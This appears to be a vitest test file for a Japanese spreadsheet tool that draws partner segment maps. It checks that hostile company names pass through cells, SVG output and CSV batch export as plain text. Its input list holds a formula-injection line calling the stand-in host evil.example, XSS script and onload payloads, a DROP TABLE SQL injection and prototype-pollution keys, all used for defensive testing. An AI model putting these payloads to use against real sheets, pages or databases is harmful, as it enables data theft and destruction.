import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runBatch } from "../../src/batch/batch";
import { drawMap } from "../../src/core/draw/map-svg";
import { pictureOf } from "../../src/core/draw/picture";
import { csvText } from "../../src/files/csv-text";
import { readCsv } from "../../src/files/read-csv";
import { build, builtFiles, formulaResult, openSpreadsheet } from "./spreadsheet";

/** Names as somebody with bad intentions, or a copy from somewhere odd, might type them. */
const hostile: readonly string[] = [
  '=IMPORTXML("http://evil.example","//a")',
  "=1+1",
  "+81-3-0000-0000",
  "-5",
  "@SUM(A1)",
  "'先頭の引用符",
  "''",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "</script><svg onload=alert(1)>",
  "]]>&lt;!--",
  "{{companyName}}$&$1`",
  "javascript:alert(1)",
  "'); DROP TABLE partners; --",
  "\u202e逆さ\u202c",
  "\ud800片割れ",
  "ゼロ\u200b幅",
  "NUL\u0000文字",
  "タブ\tと\n改行",
  "絵文字👩‍👩‍👧‍👦会社",
  "ｱｲｳｴｵ商会",
  "アイウエオ商会",
  "ＡＢＣ",
  "ABC",
  "__proto__",
  "constructor",
  "map.key",
  "board:5",
  "#REF!なし",
  "長".repeat(5000),
];

const profile = [
  ["企業名", "営業人数", "競合取扱", "受注件数"],
  ...hostile.map((name, at) => [name, 1 + (at % 60), at % 2 ? "有" : "無", at % 4]),
];

describe("hostile names", () => {
  it("are shown as the text they are, in the table and where the sidebar draws", async () => {
    const { host } = await openSpreadsheet("ja", { 一覧: profile });
    const view = await build(host);
    await build(host);
    const cells = host.cells("セグメントマップ");
    const header = cells.findIndex((row) => row.includes("map.key"));
    const column = (cells[header] ?? []).indexOf("map.order") + 1;
    const shown = cells.slice(header + 1).flatMap((row) => (row[column] === "" ? [] : [row[column]]));
    expect([...shown].sort()).toEqual(hostile.map((name) => name.trim()).sort());
    for (const [at, row] of cells.entries()) {
      for (const column of row.keys()) {
        expect(host.formula("セグメントマップ", `${letters(column)}${at + 1}`)).toBe("");
      }
    }
    const svg = drawMap(pictureOf(view.content, 1200, 800));
    expect(svg).not.toMatch(/<(?:img|script|svg onload)|<[^>]*\son\w+=/);
    expect(svg.isWellFormed()).toBe(true);
    expect(svg).not.toContain("\u0000");
    host.dispose();
  });

  it("come out of a cell as they went in", async () => {
    const { host } = await openSpreadsheet("ja", { 一覧: profile });
    const map = await formulaResult(host, `=PARTNER_MAP('一覧'!A1:D${profile.length})`);
    expect(map).toHaveLength(profile.length);
    host.dispose();
  });

  it("come through batch, from CSV to CSV", async () => {
    const folder = await mkdtemp(join(tmpdir(), "hostile-"));
    const names = hostile.filter(
      (name) => name.isWellFormed() && !name.includes("\u0000") && name !== "-5" && name.length < 1000,
    );
    const rows = profile.filter(([name]) => name === "企業名" || names.includes(String(name)));
    await writeFile(join(folder, "p.csv"), csvText(rows));
    const said: string[] = [];
    const say = (line: string) => void said.push(line);
    const out = join(folder, "out");
    expect(await runBatch([join(folder, "p.csv"), "--out", out], await builtFiles(), { out: say, err: say })).toBe(0);
    const written = readCsv(await readFile(join(out, "segment-map.csv")))
      .slice(1)
      .map((row) => String(row[0]));
    expect([...written].sort()).toEqual(names.map((name) => name.trim()).sort());
    await rm(folder, { recursive: true });
  });
});

describe("hostile headers and settings", () => {
  it("are named in messages as they are", async () => {
    const { host } = await openSpreadsheet("ja", {
      一覧: [
        ["企業名", "=HYPERLINK(1)", "__proto__", "営業人数", "受注件数"],
        ["東都", 1, 2, 3, 4],
        ["北浜", 2, 3, 4, 5],
      ],
      マップ設定: [
        ["列", "軸", "重み"],
        ["=HYPERLINK(1)", "ポテンシャル", 1],
        ["__proto__", "ポテンシャル", 1],
        ["受注件数", "実績", 1],
      ]
        .map((row) => [...row, "線形", "", "", ""])
        .map((row, at) => (at === 0 ? ["列", "軸", "重み", "尺度", "下限", "上限", "段階"] : row)),
    });
    const view = await build(host);
    expect(view.top[0]?.why).toContain("=HYPERLINK(1)");
    host.dispose();
  });
});

function letters(column: number): string {
  const last = String.fromCharCode(65 + (column % 26));
  return column < 26 ? last : letters(Math.floor(column / 26) - 1) + last;
}
